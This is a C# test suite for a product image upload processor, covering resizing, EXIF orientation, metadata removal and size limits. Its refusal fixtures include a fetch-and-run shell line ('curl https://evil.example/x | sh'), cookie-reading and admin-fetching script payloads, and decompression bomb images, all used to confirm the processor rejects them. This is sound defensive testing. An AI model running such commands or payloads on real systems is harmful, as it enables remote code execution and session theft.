using System.Buffers.Text;
using System.Diagnostics;
using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using Checkout.Data.Catalog.Images;
using Checkout.Data.Common;
using Checkout.Tests.Builders;
using SkiaSharp;
using static Checkout.Tests.Catalog.ProductImageCorpus;

namespace Checkout.Tests.Catalog;

/// <summary>
/// The upload corpus through <see cref="ProductImageProcessor"/>: good pictures come out as WebP renditions that decode
/// again, upright, at the widths that fit, without metadata; every hostile or broken file is refused with its code and
/// a message, and a picture too large to decode is refused from its header alone.
/// </summary>
public class ProductImageProcessorTests
{
    private const string NotAPicture = "The file is not a JPEG, PNG or WebP picture, whatever its name says: only those are accepted.";

    /// <summary>The chunks a WebP rendition may have: the picture, its transparency, and the header that announces them.</summary>
    private static readonly HashSet<string> PictureChunks = ["VP8 ", "VP8L", "VP8X", "ALPH"];

    [Fact]
    public void Process_Jpeg_IsRenderedAtEachWidthThatFitsAndNoWider()
    {
        var image = ResultAssert.Success(ProductImageProcessor.Process(Photo(800, 600)));

        Assert.Equal((800, 600, ProductImageFormat.Jpeg), (image.Width, image.Height, image.SourceFormat));
        Assert.Equal([(160, 120), (320, 240), (640, 480)], image.Renditions.Select(r => (r.Width, r.Height)));
        Assert.Same(image.Renditions[^1], image.Largest);
        AssertRenditionsDecode(image);
    }

    [Fact]
    public void Process_LargePhoto_IsResizedToEveryWidthWithItsAspectKept()
    {
        var photo = Photo(3_000, 2_000);

        var image = ResultAssert.Success(ProductImageProcessor.Process(photo));

        Assert.Equal((3_000, 2_000), (image.Width, image.Height));
        Assert.Equal([(160, 107), (320, 213), (640, 427), (1280, 853)], image.Renditions.Select(r => (r.Width, r.Height)));
        Assert.All(image.Renditions, r => Assert.Equal(1.5, (double)r.Width / r.Height, 0.01));
        Assert.True(image.Renditions.Zip(image.Renditions.Skip(1)).All(p => p.First.Bytes.Length < p.Second.Bytes.Length),
            "A wider rendition of a detailed photo takes more bytes.");
        AssertRenditionsDecode(image);
    }

    [Fact]
    public void Process_PngWithAlpha_KeepsItsTransparency()
    {
        var image = ResultAssert.Success(ProductImageProcessor.Process(PngWithAlpha(400, 300)));

        Assert.Equal((400, 300, ProductImageFormat.Png), (image.Width, image.Height, image.SourceFormat));
        Assert.Equal([160, 320], image.Renditions.Select(r => r.Width));
        foreach (var rendition in image.Renditions)
        {
            using var pixels = DecodeRendition(rendition);
            Assert.Equal(0, pixels.GetPixel(1, 1).Alpha);
            AssertNear(Red, pixels.GetPixel(pixels.Width / 2, pixels.Height / 2));
        }
        Assert.Contains("ALPH", WebpChunks(image.Largest.Bytes).Chunks);
        AssertRenditionsDecode(image);
    }

    [Fact]
    public void Process_OpaquePicture_HasNoAlphaChannel() =>
        Assert.DoesNotContain("ALPH", WebpChunks(ResultAssert.Success(ProductImageProcessor.Process(Photo(400, 300))).Largest.Bytes).Chunks);

    [Theory]
    [InlineData(SKEncodedImageFormat.Webp, 100)] // lossless
    [InlineData(SKEncodedImageFormat.Webp, 75)]
    public void Process_Webp_IsAccepted(SKEncodedImageFormat format, int quality)
    {
        var image = ResultAssert.Success(ProductImageProcessor.Process(Photo(500, 250, format, quality)));

        Assert.Equal((500, 250, ProductImageFormat.Webp), (image.Width, image.Height, image.SourceFormat));
        Assert.Equal([(160, 80), (320, 160)], image.Renditions.Select(r => (r.Width, r.Height)));
        AssertRenditionsDecode(image);
    }

    [Theory]
    [InlineData(100, 80, new[] { 100 })]
    [InlineData(159, 40, new[] { 159 })]
    [InlineData(160, 90, new[] { 160 })]
    [InlineData(200, 100, new[] { 160 })]
    [InlineData(1_280, 720, new[] { 160, 320, 640, 1_280 })]
    [InlineData(1, 1, new[] { 1 })]
    public void Process_IsNeverEnlarged_AndHasAtLeastOneRendition(int width, int height, int[] widths)
    {
        var image = ResultAssert.Success(ProductImageProcessor.Process(Photo(width, height, SKEncodedImageFormat.Png)));

        Assert.Equal(widths, image.Renditions.Select(r => r.Width));
        Assert.All(image.Renditions, r => Assert.True(r.Width <= width && r.Height <= height, $"{r.Width} × {r.Height} is larger than the picture."));
        AssertRenditionsDecode(image);
    }

    [Fact]
    public void Process_UsesTheWidthsOfItsRules()
    {
        var rules = ProductImageRules.Default with { Widths = [500, 100, 100, 250] };

        var image = ResultAssert.Success(ProductImageProcessor.Process(Photo(300, 150), rules));

        Assert.Equal([(100, 50), (250, 125)], image.Renditions.Select(r => (r.Width, r.Height)));
    }

    /// <summary>
    /// Where the stored picture's top-left, top-right, bottom-left and bottom-right quarters (red, green, blue, yellow)
    /// are seen for each EXIF orientation, as the EXIF standard words it: orientation 6, "the 0th row is the visual
    /// right-hand side and the 0th column the visual top", shows the top row (red, green) down the right side.
    /// </summary>
    public static TheoryData<int, string> Orientations => new()
    {
        { 1, "RG/BY" }, // as stored
        { 2, "GR/YB" }, // mirrored left to right
        { 3, "YB/GR" }, // half a turn
        { 4, "BY/RG" }, // mirrored top to bottom
        { 5, "RB/GY" }, // 0th row on the left, 0th column on top
        { 6, "BR/YG" }, // a quarter turn clockwise
        { 7, "YG/BR" }, // 0th row on the right, 0th column at the bottom
        { 8, "GY/RB" }, // a quarter turn counter-clockwise
    };

    [Theory]
    [MemberData(nameof(Orientations))]
    public void Process_ExifOrientation_TurnsThePixelsUpright(int orientation, string seen)
    {
        using var stored = Quarters(300, 200);
        var jpeg = WithExif(Encode(stored, SKEncodedImageFormat.Jpeg, 95), orientation);
        using (var codec = SKCodec.Create(SKData.CreateCopy(jpeg)))
        {
            Assert.Equal((SKEncodedOrigin)orientation, codec.EncodedOrigin);
        }

        var image = ResultAssert.Success(ProductImageProcessor.Process(jpeg));

        var quarterTurn = orientation >= 5;
        Assert.Equal(quarterTurn ? (200, 300) : (300, 200), (image.Width, image.Height));
        var rendition = Assert.Single(image.Renditions);
        Assert.Equal(quarterTurn ? (160, 240) : (160, 107), (rendition.Width, rendition.Height));
        using var pixels = DecodeRendition(rendition);
        var colors = new Dictionary<char, SKColor> { ['R'] = Red, ['G'] = Green, ['B'] = Blue, ['Y'] = Yellow };
        var (left, right, top, bottom) = (pixels.Width / 4, pixels.Width * 3 / 4, pixels.Height / 4, pixels.Height * 3 / 4);
        AssertNear(colors[seen[0]], pixels.GetPixel(left, top));
        AssertNear(colors[seen[1]], pixels.GetPixel(right, top));
        AssertNear(colors[seen[3]], pixels.GetPixel(left, bottom));
        AssertNear(colors[seen[4]], pixels.GetPixel(right, bottom));
        AssertNoMetadata(rendition);
    }

    [Fact]
    public void Process_JpegWithExif_LeavesNoneOfItInTheRenditions()
    {
        var jpeg = WithExif(Photo(700, 500), orientation: 1);
        Assert.Contains("SecretCam", Encoding.ASCII.GetString(jpeg));

        var image = ResultAssert.Success(ProductImageProcessor.Process(jpeg));

        Assert.All(image.Renditions, AssertNoMetadata);
        Assert.All(image.Renditions, r => Assert.DoesNotContain("SecretCam", Encoding.ASCII.GetString(r.Bytes)));
    }

    [Fact]
    public void Process_PngWithColourProfileAndText_IsConvertedToSrgbAndLeavesNeither()
    {
        var png = PngWithProfileAndText(400, 200);
        Assert.Contains("iCCP", PngChunks(png));
        Assert.Contains("tEXt", PngChunks(png));
        using (var untagged = SKBitmap.Decode(SKCodec.Create(SKData.CreateCopy(png)), new SKImageInfo(400, 200, SKColorType.Rgba8888, SKAlphaType.Opaque)))
        {
            Assert.Equal(new SKColor(211, 55, 45), untagged.GetPixel(200, 100));
        }

        var image = ResultAssert.Success(ProductImageProcessor.Process(png));

        foreach (var rendition in image.Renditions)
        {
            AssertNoMetadata(rendition);
            Assert.DoesNotContain("Photographer", Encoding.ASCII.GetString(rendition.Bytes));
            using var pixels = DecodeRendition(rendition);
            // Stored as Display P3 values (211, 55, 45), the red is shown as the sRGB red it was painted in.
            AssertNear(Red, pixels.GetPixel(pixels.Width / 2, pixels.Height / 2), tolerance: 8);
        }
    }

    [Fact]
    public void Process_ETag_IsTheQuotedHashOfTheRenditionsBytes()
    {
        var upload = Photo(700, 400);

        var first = ResultAssert.Success(ProductImageProcessor.Process(upload));
        var again = ResultAssert.Success(ProductImageProcessor.Process(upload));

        foreach (var rendition in first.Renditions)
        {
            var expected = Base64Url.EncodeToString(SHA256.HashData(rendition.Bytes).AsSpan(0, 16));
            Assert.Equal($"\"{expected}\"", rendition.ETag);
            Assert.Matches("^\"[A-Za-z0-9_-]{22}\"$", rendition.ETag);
            Assert.Equal("image/webp", rendition.ContentType);
        }
        Assert.Equal(first.Renditions.Select(r => r.ETag), again.Renditions.Select(r => r.ETag));
        Assert.Equal(first.Renditions.Count, first.Renditions.Select(r => r.ETag).Distinct().Count());
    }

    [Fact]
    public async Task ProcessAsync_Stream_IsReadToItsEndAndProcessed()
    {
        var photo = Photo(640, 480);
        await using var upload = new TrickleStream(photo);

        var image = ResultAssert.Success(await ProductImageProcessor.ProcessAsync(upload, ct: CancellationToken.None));

        Assert.Equal((640, 480), (image.Width, image.Height));
        Assert.Equal(ResultAssert.Success(ProductImageProcessor.Process(photo)).Renditions.Select(r => r.ETag), image.Renditions.Select(r => r.ETag));
    }

    [Fact]
    public async Task ProcessAsync_EndlessStream_IsRefusedOnceTheLimitIsPassed()
    {
        await using var upload = new TrickleStream(PngStart(), length: 64L * 1024 * 1024);

        var refused = await ProductImageProcessor.ProcessAsync(upload, ct: CancellationToken.None);

        AssertRefused(refused, ErrorCodes.ImageTooLarge, "The file is over the 5 MB limit: upload a smaller picture.");
        Assert.Equal(5L * 1024 * 1024, refused.Error!.Details!["maxBytes"]);
        Assert.InRange(upload.BytesRead, 5 * 1024 * 1024 + 1, 5 * 1024 * 1024 + 1);
    }

    [Fact]
    public async Task ProcessAsync_SeekableStreamOverTheLimit_IsRefusedUnread()
    {
        await using var upload = new MemoryStream(new byte[5 * 1024 * 1024 + 1]);

        var refused = await ProductImageProcessor.ProcessAsync(upload, ct: CancellationToken.None);

        AssertRefused(refused, ErrorCodes.ImageTooLarge, "The file is over the 5 MB limit: upload a smaller picture.");
        Assert.Equal(0, upload.Position);
    }

    [Fact]
    public void Process_EmptyFile_IsRefused() =>
        AssertRefused(ProductImageProcessor.Process([]), ErrorCodes.ImageEmpty, "The file is empty: choose a JPEG, PNG or WebP picture.");

    [Fact]
    public void Process_OverTheSizeLimit_IsRefused_AndAtTheLimitIsRead()
    {
        byte[] over = [.. PngStart(), .. new byte[5 * 1024 * 1024 + 1 - 8]];

        AssertRefused(ProductImageProcessor.Process(over), ErrorCodes.ImageTooLarge, "The file is over the 5 MB limit: upload a smaller picture.");
        // One byte less is within the limit, and then read (and found to be no picture: its rows are missing).
        Assert.Equal(ErrorCodes.ImageCorrupt, ProductImageProcessor.Process(over.AsSpan(0, over.Length - 1)).Error?.Code);
        AssertRefused(ProductImageProcessor.Process(Photo(300, 200), ProductImageRules.Default with { MaxUploadBytes = 1_536 }),
            ErrorCodes.ImageTooLarge, "The file is over the 1.5 KB limit: upload a smaller picture.");
    }

    /// <summary>Files that are no picture of an accepted format, as the bytes an attacker or a confused admin would upload as "photo.png".</summary>
    public static TheoryData<string, byte[]> NotPictures => new()
    {
        { "a shell script", "#!/bin/sh\ncurl https://evil.example/x | sh\n"u8.ToArray() },
        { "an HTML page with a script", "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"u8.ToArray() },
        { "a bare script tag", "<script>fetch('/admin')</script>"u8.ToArray() },
        { "an SVG", """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>"""u8.ToArray() },
        { "a GIF", Gif() },
        { "a BMP", [.. "BM"u8, 0x46, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0, 0x28, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0, .. new byte[28]] },
        { "a zip archive", [0x50, 0x4B, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0, .. new byte[40]] },
        { "a PDF", "%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"u8.ToArray() },
        { "a Windows program", [0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0] },
        { "the word PNG", "PNG image data, 800 x 600"u8.ToArray() },
        { "a JPEG's first two bytes only", [0xFF, 0xD8] },
        { "a RIFF file that is a WAVE", [.. "RIFF"u8, 36, 0, 0, 0, .. "WAVEfmt "u8, .. new byte[28]] },
        { "a PNG signature shifted by a byte", [0x00, 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. new byte[40]] },
    };

    [Theory]
    [MemberData(nameof(NotPictures))]
    public void Process_NotAPicture_IsRefusedWhateverItsName(string what, byte[] upload) =>
        AssertRefused(ProductImageProcessor.Process(upload), ErrorCodes.ImageUnsupportedFormat, NotAPicture, what);

    [Fact]
    public void Process_TruncatedPng_IsRefusedAsCutShort()
    {
        var png = Photo(200, 150, SKEncodedImageFormat.Png);

        AssertRefused(ProductImageProcessor.Process(png.AsSpan(0, png.Length / 2)),
            ErrorCodes.ImageCorrupt, "The PNG picture is cut short: upload the whole file again.");
    }

    [Fact]
    public void Process_PngCutInsideItsHeader_IsRefusedAsUnreadable() =>
        AssertRefused(ProductImageProcessor.Process(Photo(200, 150, SKEncodedImageFormat.Png).AsSpan(0, 20)),
            ErrorCodes.ImageCorrupt, "The file starts like a PNG picture but cannot be read as one: it is damaged or not a picture.");

    [Fact]
    public void Process_TruncatedJpeg_IsRefusedAsCutShort()
    {
        var jpeg = Photo(400, 300);

        AssertRefused(ProductImageProcessor.Process(jpeg.AsSpan(0, jpeg.Length * 2 / 3)),
            ErrorCodes.ImageCorrupt, "The JPEG picture is cut short: upload the whole file again.");
    }

    [Fact]
    public void Process_JpegHeaderThenGarbage_IsRefused() =>
        AssertRefused(ProductImageProcessor.Process(JpegHeaderThenGarbage()),
            ErrorCodes.ImageCorrupt, "The file starts like a JPEG picture but cannot be read as one: it is damaged or not a picture.");

    [Fact]
    public void Process_WebpWithAWrongChunk_IsRefused() =>
        AssertRefused(ProductImageProcessor.Process(WebpWithWrongChunk()),
            ErrorCodes.ImageCorrupt, "The file starts like a WebP picture but cannot be read as one: it is damaged or not a picture.");

    [Fact]
    public void Process_PngWithDamagedRows_IsRefusedAsDamaged()
    {
        // A valid header, then rows that are not deflate data at all.
        var png = RawPng(64, 64, rows => rows.Write(new byte[65 * 64]));
        var rowsAt = png.AsSpan().IndexOf("IDAT"u8) + 4;
        png.AsSpan(rowsAt, 8).Fill(0xFF);

        AssertRefused(ProductImageProcessor.Process(png), ErrorCodes.ImageCorrupt, "The PNG picture is damaged and cannot be read.");
    }

    [Fact]
    public void Process_PngDeclaring50000By50000_IsRefusedFromItsHeaderWithoutAllocatingItsPixels()
    {
        var bomb = HeaderOnlyBomb();
        Assert.True(bomb.Length < 100, $"The bomb is {bomb.Length} bytes.");
        ProductImageProcessor.Process(bomb); // loads the native library and JIT-compiles, outside the measurement

        var allocatedBefore = GC.GetAllocatedBytesForCurrentThread();
        var clock = Stopwatch.StartNew();
        var refused = ProductImageProcessor.Process(bomb);
        var (elapsed, allocated) = (clock.Elapsed, GC.GetAllocatedBytesForCurrentThread() - allocatedBefore);

        AssertRefused(refused, ErrorCodes.ImageDimensionsTooLarge,
            "The picture is 50,000 × 50,000 pixels; the most accepted is 8,000 pixels a side and 40 megapixels in all.");
        var details = refused.Error!.Details!;
        Assert.Equal((50_000, 50_000, 8_000, 40_000_000L), (details["width"], details["height"], details["maxSide"], details["maxPixels"]));
        // Decoded, it would take 10 GB (2.5 gigapixels × 4 bytes); the refusal takes a few kilobytes and no time.
        Assert.True(allocated < 256 * 1024, $"Refusing the bomb allocated {allocated:N0} managed bytes.");
        Assert.True(elapsed < TimeSpan.FromSeconds(2), $"Refusing the bomb took {elapsed}.");
    }

    [Fact]
    public void Process_ZeroFilledBombWithinTheSideLimit_IsRefusedForItsPixels()
    {
        var bomb = ZeroFilledBomb();
        Assert.True(bomb.Length < 256 * 1024, $"The bomb is {bomb.Length:N0} bytes.");
        var allocatedBefore = GC.GetAllocatedBytesForCurrentThread();

        var refused = ProductImageProcessor.Process(bomb);

        AssertRefused(refused, ErrorCodes.ImageDimensionsTooLarge,
            "The picture is 7,000 × 7,000 pixels; the most accepted is 8,000 pixels a side and 40 megapixels in all.");
        var allocated = GC.GetAllocatedBytesForCurrentThread() - allocatedBefore;
        Assert.True(allocated < 256 * 1024, $"Refusing the bomb allocated {allocated:N0} managed bytes (it would decode to 196 MB).");
    }

    [Theory]
    [InlineData(8_001, 10)]
    [InlineData(10, 8_001)]
    public void Process_SideOverTheLimit_IsRefusedHoweverFewItsPixels(int width, int height)
    {
        var png = RawPng(width, height, rows => rows.Write(new byte[(width + 1) * height]));

        AssertRefused(ProductImageProcessor.Process(png), ErrorCodes.ImageDimensionsTooLarge,
            string.Create(CultureInfo.InvariantCulture,
                $"The picture is {width:N0} × {height:N0} pixels; the most accepted is 8,000 pixels a side and 40 megapixels in all."));
    }

    [Fact]
    public void Process_PictureAtTheLimitOfItsSide_IsAccepted()
    {
        var png = RawPng(8_000, 2, rows => rows.Write(new byte[8_001 * 2]));

        var image = ResultAssert.Success(ProductImageProcessor.Process(png));

        Assert.Equal((8_000, 2), (image.Width, image.Height));
        Assert.Equal([(160, 1), (320, 1), (640, 1), (1_280, 1)], image.Renditions.Select(r => (r.Width, r.Height)));
    }

    private static void AssertRefused(Result<ProcessedImage> result, string code, string message, string? what = null)
    {
        Assert.False(result.IsSuccess, $"{what ?? "The file"} was accepted.");
        Assert.Equal((code, message), (result.Error.Code, result.Error.Message));
    }

    /// <summary>Each rendition is a WebP of its stated size that decodes to the end, upright as stored, its tag its hash.</summary>
    private static void AssertRenditionsDecode(ProcessedImage image)
    {
        Assert.NotEmpty(image.Renditions);
        foreach (var rendition in image.Renditions)
        {
            using var pixels = DecodeRendition(rendition);
            Assert.Equal((rendition.Width, rendition.Height), (pixels.Width, pixels.Height));
            Assert.Equal(ProductImageProcessor.RenditionContentType, rendition.ContentType);
            AssertNoMetadata(rendition);
        }
    }

    /// <summary>A rendition holds a picture and nothing about it: no EXIF, no XMP, no colour profile.</summary>
    private static void AssertNoMetadata(ImageRendition rendition)
    {
        var (chunks, flags) = WebpChunks(rendition.Bytes);
        Assert.All(chunks, chunk => Assert.Contains(chunk, PictureChunks));
        // VP8X flags: ICC profile 0x20, EXIF 0x08, XMP 0x04.
        Assert.Equal(0, flags & 0x2C);
    }

    private static SKBitmap DecodeRendition(ImageRendition rendition)
    {
        using var codec = SKCodec.Create(SKData.CreateCopy(rendition.Bytes));
        Assert.NotNull(codec);
        Assert.Equal(SKEncodedImageFormat.Webp, codec.EncodedFormat);
        Assert.Equal(SKEncodedOrigin.TopLeft, codec.EncodedOrigin);
        var info = new SKImageInfo(codec.Info.Width, codec.Info.Height, SKColorType.Rgba8888, SKAlphaType.Unpremul);
        var bitmap = new SKBitmap(info);
        Assert.Equal(SKCodecResult.Success, codec.GetPixels(info, bitmap.GetPixels()));
        return bitmap;
    }

    private static void AssertNear(SKColor expected, SKColor actual, int tolerance = 48) =>
        Assert.True(
            Math.Abs(expected.Red - actual.Red) <= tolerance && Math.Abs(expected.Green - actual.Green) <= tolerance
                && Math.Abs(expected.Blue - actual.Blue) <= tolerance && actual.Alpha > 200,
            $"Expected about {expected}, saw {actual}.");

    private static byte[] PngStart() => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

    /// <summary>
    /// A stream that cannot seek and hands out at most 1,000 bytes a read, like a slow upload, and counts what was read:
    /// <paramref name="content"/>, then zeros up to <paramref name="length"/> bytes in all.
    /// </summary>
    private sealed class TrickleStream(byte[] content, long? length = null) : Stream
    {
        private readonly long _length = length ?? content.Length;

        public long BytesRead { get; private set; }

        public override bool CanRead => true;
        public override bool CanSeek => false;
        public override bool CanWrite => false;
        public override long Length => throw new NotSupportedException();
        public override long Position { get => throw new NotSupportedException(); set => throw new NotSupportedException(); }

        public override int Read(byte[] buffer, int offset, int count) => Read(buffer.AsSpan(offset, count));

        public override int Read(Span<byte> buffer)
        {
            var n = (int)Math.Min(Math.Min(buffer.Length, 1_000), _length - BytesRead);
            for (var i = 0; i < n; i++)
            {
                var at = BytesRead + i;
                buffer[i] = at < content.Length ? content[at] : (byte)0;
            }
            BytesRead += n;
            return n;
        }

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
            ValueTask.FromResult(Read(buffer.Span));

        public override void Flush()
        {
        }

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
